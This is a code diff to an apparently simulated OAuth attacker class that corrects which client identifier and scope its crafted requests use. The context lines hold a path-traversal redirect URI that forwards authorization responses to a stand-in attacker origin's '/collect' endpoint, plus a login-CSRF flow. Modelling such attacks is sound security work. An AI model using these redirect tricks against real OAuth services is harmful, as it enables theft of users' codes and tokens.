@@ -169,7 +169,7 @@ class FlowAttacker(Attacker):
         crafted = f"{redirect_uri(self.config.app_kind)}/../out?" + urlencode(
             {"to": f"{ATTACKER_ORIGIN}/collect"}
         )
-        params = self._request(victim.name, crafted, user=victim.user, challenge=True)
+        params = self._request(victim.client_id, crafted, user=victim.user, challenge=True)
         if victim.browser.idp_session is not None:
             params["idp_session"] = victim.browser.idp_session
         answer = yield from self._send(victim.browser.name, "authorize", params)
@@ -188,7 +188,10 @@ class FlowAttacker(Attacker):
         """``login_csrf``: the attacker's own response, delivered to the victim's app."""
         require = self.config.policy.require_pkce
         params = self._request(
-            self.victim.name, redirect_uri(self.config.app_kind), user=ATTACKER, challenge=require
+            self.victim.client_id,
+            redirect_uri(self.config.app_kind),
+            user=ATTACKER,
+            challenge=require,
         )
         answer = yield from self._send(self.browser.name, "authorize", params)
         if not answer.ok:
@@ -223,7 +226,7 @@ class FlowAttacker(Attacker):
             "response_type": "token" if implicit else "code",
             "client_id": client_id,
             "redirect_uri": uri,
-            "scope": "openid" if implicit else "openid offline_access",
+            "scope": self.victim.login_scope(),  # what the app asks for, refresh token included
             "audience": self.audience,
             "state": self.state,
             "user": user,
@@ -245,7 +248,7 @@ class FlowAttacker(Attacker):
             "grant_type": "authorization_code",
             "code": response_params(location).get("code", ""),
             "redirect_uri": uri,
-            "client_id": self.victim.name,
+            "client_id": self.victim.client_id,  # a public client's id is no secret
         }
         if verifier is not None:
             params["code_verifier"] = verifier
